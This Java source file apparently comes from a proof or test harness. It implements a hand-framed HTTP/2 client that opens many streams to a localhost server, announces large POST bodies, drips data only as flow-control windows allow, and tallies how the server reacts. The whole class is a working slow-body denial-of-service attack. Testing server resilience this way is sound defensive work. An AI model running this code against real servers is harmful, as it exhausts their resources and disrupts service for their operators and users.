package dev.paddock.proof;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.util.Map;
import java.util.TreeMap;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;

/**
 * One connection of HTTP/2 with many streams, each with an announced body that never ends. It keeps
 * to the windows that the server gives, and to nothing else. Frames by hand (RFC 9113), because
 * libraries do not open more streams than they may.
 */
final class Http2Attacker {
  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int GOAWAY = 7;
  private static final int WINDOW_UPDATE = 8;
  private static final int ACK = 1;
  private static final int END_HEADERS = 4;
  private static final int WINDOW = 65_535;
  private static final int FRAME = 16_384;
  private static final int BODY = 131_000;

  private final Gains gains;
  private final Map<Integer, Integer> left = new TreeMap<>();
  private int window = WINDOW;

  Http2Attacker(Gains gains) {
    this.gains = gains;
  }

  /** Attacks for some seconds, or until the server ends the connection. */
  void attack(SSLContext trusted, int port, int streams, int seconds) {
    try (var socket = (SSLSocket) trusted.getSocketFactory().createSocket("localhost", port)) {
      var parameters = socket.getSSLParameters();
      parameters.setApplicationProtocols(new String[] {"h2"});
      socket.setSSLParameters(parameters);
      socket.setSoTimeout(seconds * 1000);
      var out = socket.getOutputStream();
      out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(ISO_8859_1));
      out.write(frame(SETTINGS, 0, 0, new byte[0]));
      for (int i = 0; i < streams; i++) {
        int id = 2 * i + 1;
        left.put(id, Math.min(BODY, WINDOW));
        out.write(frame(HEADERS, END_HEADERS, id, head(port)));
      }
      send(out);
      hear(new DataInputStream(socket.getInputStream()), out);
    } catch (SocketTimeoutException silent) {
      gains.add("silence");
    } catch (EOFException | SocketException end) {
      gains.add("closed");
    } catch (IOException broken) {
      gains.add("broken");
    }
  }

  private void hear(DataInputStream in, OutputStream out) throws IOException {
    while (true) {
      int word = in.readInt();
      int type = word & 0xff;
      int flags = in.readUnsignedByte();
      int stream = in.readInt();
      var payload = new byte[word >>> 8];
      in.readFully(payload);
      switch (type) {
        case HEADERS -> {
          gains.add("answered");
          left.remove(stream);
        }
        case RST_STREAM -> {
          if (left.remove(stream) != null) {
            gains.add("reset");
          }
        }
        case GOAWAY -> {
          gains.add("GOAWAY");
          return;
        }
        case SETTINGS -> {
          if (flags != ACK) {
            out.write(frame(SETTINGS, ACK, 0, new byte[0]));
          }
        }
        case WINDOW_UPDATE -> {
          int more = new DataInputStream(new ByteArrayInputStream(payload)).readInt();
          if (stream == 0) {
            window += more;
          } else {
            left.computeIfPresent(stream, (id, count) -> count + more);
          }
          send(out);
        }
        default -> {}
      }
    }
  }

  /** Sends what the windows allow. */
  private void send(OutputStream out) throws IOException {
    for (Map.Entry<Integer, Integer> stream : left.entrySet()) {
      int count = Math.min(FRAME, Math.min(window, stream.getValue()));
      if (count > 0) {
        out.write(frame(DATA, 0, stream.getKey(), new byte[count]));
        window -= count;
        stream.setValue(stream.getValue() - count);
      }
    }
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    var frame = new ByteArrayOutputStream();
    frame.write(payload.length >>> 16);
    frame.write(payload.length >>> 8);
    frame.write(payload.length);
    frame.write(type);
    frame.write(flags);
    for (int shift = 24; shift >= 0; shift -= 8) {
      frame.write(stream >>> shift);
    }
    frame.writeBytes(payload);
    return frame.toByteArray();
  }

  /** A head in HPACK (RFC 7541) without its table or its code for texts. */
  private static byte[] head(int port) {
    var head = new ByteArrayOutputStream();
    head.write(0x83); // :method: POST
    head.write(0x87); // :scheme: https
    text(head, "localhost:" + port, 0x01); // :authority
    text(head, "/api/v3/orgs/acme/repos", 0x04); // :path
    text(head, "131072", 0x0f, 0x0d); // content-length
    return head.toByteArray();
  }

  private static void text(ByteArrayOutputStream head, String value, int... name) {
    for (int each : name) {
      head.write(each);
    }
    head.write(value.length());
    head.writeBytes(value.getBytes(ISO_8859_1));
  }
}
